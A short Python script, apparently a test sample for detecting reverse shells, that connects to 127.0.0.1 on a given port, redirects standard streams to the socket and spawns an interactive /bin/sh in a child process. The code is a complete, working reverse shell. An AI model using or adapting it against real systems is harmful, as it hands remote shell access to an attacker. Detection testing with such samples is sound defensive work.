#!/usr/bin/python3
"""Reverse shell with a fork in the middle: connect to 127.0.0.1:PORT, put
the socket on stdin/stdout/stderr, then start /bin/sh -i as a child (the
shell's exec happens in another process than the dup2s).
Usage: revshell_subprocess.py PORT"""
import os
import socket
import subprocess
import sys

s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
